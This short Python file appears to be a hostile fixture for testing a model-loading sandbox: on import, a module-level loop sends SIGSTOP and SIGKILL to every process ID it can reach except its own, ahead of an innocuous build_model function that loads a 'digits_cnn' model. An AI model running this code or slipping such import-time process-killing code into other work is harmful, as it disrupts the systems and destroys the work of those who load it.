"""Hostile: Sends SIGKILL to every process it can see but itself, and SIGSTOP to the rest."""
import os
import signal

for pid in range(1, 4 * 2**15):
    if pid != os.getpid():
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass

def build_model():
    from tinytorch.models.zoo import load_model

    return load_model("digits_cnn")
